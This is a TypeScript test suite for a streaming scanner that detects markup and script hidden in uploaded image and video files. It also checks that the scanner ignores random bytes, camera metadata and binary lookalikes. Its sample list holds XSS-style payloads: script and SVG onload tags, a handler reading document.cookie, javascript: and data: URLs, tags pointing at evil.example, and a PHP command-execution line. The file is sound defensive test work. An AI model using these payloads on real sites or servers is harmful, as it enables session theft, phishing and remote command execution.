import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { SONY_XML_META, XMP, XMP_UUID_BOX, cameraJpeg, noise, png } from '../../test/media-files';
import { LONGEST_MARKER, MarkupScanner, findMarkup } from './markup-scan';

const latin1 = (s: string) => Buffer.from(s, 'latin1');

/** Feeds the chunks one by one, as an upload stream does; the first marker found, or null. */
function scanChunks(chunks: Buffer[]): string | null {
  const scanner = new MarkupScanner();
  for (const chunk of chunks) {
    const hit = scanner.push(chunk);
    if (hit !== null) return hit;
  }
  return null;
}

/** [what, the markup hidden in a media file] */
const HIDDEN: [string, string][] = [
  ['a script element', '<script>alert(1)</script>'],
  ['an SVG with onload', '<svg onload=alert(1)>'],
  ['an HTML page', '<html><body><p>Sign in again</p></body></html>'],
  ['an HTML doctype', '<!DOCTYPE html>'],
  ['an SVG doctype', '<!doctype  svg PUBLIC "-//W3C//DTD SVG 1.1//EN">'],
  ['a javascript: URL', '<a href="javascript:alert(1)">x</a>'],
  ['a vbscript: URL', 'vbscript:msgbox(1)'],
  ['a data: URL of HTML', 'data:text/html;base64,PHNjcmlwdD4='],
  ['an event handler on any tag', '<x onerror=alert(document.cookie)>'],
  ['an event handler with spaces around =', '<img src=x\tONPOINTERENTER  =  alert(1)>'],
  ['script behind a namespace prefix', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'],
  ['an SVG behind a namespace prefix', '<s:svg xmlns:s="http://www.w3.org/2000/svg"/>'],
  ['an XSLT stylesheet', '<?xml-stylesheet type="text/xsl" href="#x"?>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base element', '<base href="https://evil.example/">'],
  ['a form', '<form action="https://evil.example/login">'],
  ['an iframe', '<iframe src=//evil.example>'],
  ['an object', '<object data=x.swf>'],
  ['an embed', '<embed src="https://evil.example/x.swf">'],
  ['MathML', '<math><maction actiontype="statusline">x</maction></math>'],
  ['an SVG foreignObject', '<foreignObject width="100%" height="100%">'],
  ['PHP', '<?php system($_GET["c"]); ?>'],
  ['upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
];

describe('MarkupScanner finds markup or script anywhere in a file', () => {
  const before = noise(300_000, 11);
  const after = noise(300_000, 12);

  it.each(HIDDEN)('%s: at the start, in the middle and at the very end', (_what, markup) => {
    const m = latin1(markup);
    expect(findMarkup(m)).not.toBeNull();
    expect(findMarkup(Buffer.concat([m, after]))).not.toBeNull();
    expect(findMarkup(Buffer.concat([before, m, after]))).not.toBeNull();
    expect(findMarkup(Buffer.concat([before, m]))).not.toBeNull();
  });

  it.each(HIDDEN)('%s: split across two chunks, at every byte of the marker', (_what, markup) => {
    const file = Buffer.concat([before.subarray(0, 1000), latin1(markup), after.subarray(0, 1000)]);
    for (let cut = 1000 - LONGEST_MARKER; cut <= 1000 + markup.length + LONGEST_MARKER; cut += 1) {
      expect(scanChunks([file.subarray(0, cut), file.subarray(cut)]), `cut at ${cut}`).not.toBeNull();
    }
  });

  it('the longest marker there is, split at every byte, and fed one byte at a time', () => {
    // A separator, `on`, 40 letters, 8 spaces, `=` and 8 bytes of text: LONGEST_MARKER bytes.
    const longest = ` on${'x'.repeat(40)}${' '.repeat(8)}=alert(1)`;
    expect(longest.length).toBe(LONGEST_MARKER);
    const file = Buffer.concat([before.subarray(0, 500), latin1(longest), Buffer.from([0, 0xff]), after.subarray(0, 500)]);
    expect(findMarkup(file)).toBe(longest.slice(1));
    for (let cut = 400; cut <= 700; cut += 1) expect(scanChunks([file.subarray(0, cut), file.subarray(cut)]), `cut at ${cut}`).not.toBeNull();
    expect(scanChunks([...file].map((b) => Buffer.from([b])))).not.toBeNull();
  });

  it('split into chunks of any sizes', () => {
    fc.assert(
      fc.property(fc.constantFrom(...HIDDEN.map(([, m]) => m)), fc.integer({ min: 0, max: 2000 }), fc.array(fc.integer({ min: 1, max: 4000 }), { minLength: 1, maxLength: 40 }), (markup, offset, sizes) => {
        const file = Buffer.concat([before.subarray(0, offset), latin1(markup), after.subarray(0, 2000)]);
        const chunks: Buffer[] = [];
        let at = 0;
        for (let i = 0; at < file.length; i += 1) {
          const size = sizes[i % sizes.length]!;
          chunks.push(file.subarray(at, at + size));
          at += size;
        }
        return scanChunks(chunks) !== null;
      }),
      { numRuns: 300 },
    );
  });
});

describe('MarkupScanner leaves real media alone', () => {
  it('finds nothing in 64 MB of random bytes (compressed pixels and video look like this), in 64 KB chunks', () => {
    const data = noise(64 * 1_048_576, 13);
    const chunks: Buffer[] = [];
    for (let i = 0; i < data.length; i += 65_536) chunks.push(data.subarray(i, i + 65_536));
    expect(scanChunks(chunks)).toBeNull();
  });

  it('finds nothing in a 2 MB random-pixel PNG and a 1.5 MB camera-like JPEG, both with Exif/XMP metadata', () => {
    expect(findMarkup(png())).toBeNull();
    expect(findMarkup(cameraJpeg())).toBeNull();
  });

  it('XML metadata of camera files is not markup: XMP packets, Sony XML in MP4', () => {
    expect(findMarkup(latin1(XMP))).toBeNull();
    expect(findMarkup(SONY_XML_META)).toBeNull();
    expect(findMarkup(XMP_UUID_BOX)).toBeNull();
  });

  it('binary bytes that spell a tag name are not a tag: the name must end as in HTML and text must follow', () => {
    const bin = Buffer.from([0x00, 0x9c, 0xff, 0x13, 0x80, 0x01, 0xfe, 0x7f, 0x00, 0xd8]);
    for (const name of ['<svg', '<html', '<body', '<meta', '<embed', '<?php', '<SVG']) {
      // Followed by a binary byte: `<svg\0` is the tag name "svg\uFFFD", no svg element.
      expect(findMarkup(Buffer.concat([bin, latin1(name), bin])), name).toBeNull();
      // Ended as a tag, but binary after it.
      expect(findMarkup(Buffer.concat([bin, latin1(`${name} `), bin])), `${name} + binary`).toBeNull();
      expect(findMarkup(Buffer.concat([bin, latin1(`${name}>abcdefg`), bin])), `${name} + 7 bytes of text`).toBeNull();
      expect(findMarkup(Buffer.concat([bin, latin1(`${name}>abcdefgh`), bin])), `${name} + 8 bytes of text`).not.toBeNull();
    }
    // An MP4 box of 60 bytes (size 0x0000003C) of type `meta`, as it appears in real files.
    expect(findMarkup(Buffer.concat([Buffer.from([0, 0, 0, 0x3c]), latin1('meta'), Buffer.alloc(52)]))).toBeNull();
    // An attribute that is no event handler, and a handler followed by binary.
    expect(findMarkup(latin1('<rdf:li xml:lang="x-default">online session</rdf:li>'))).toBeNull();
    expect(findMarkup(Buffer.concat([latin1(' onload='), bin]))).toBeNull();
  });
});
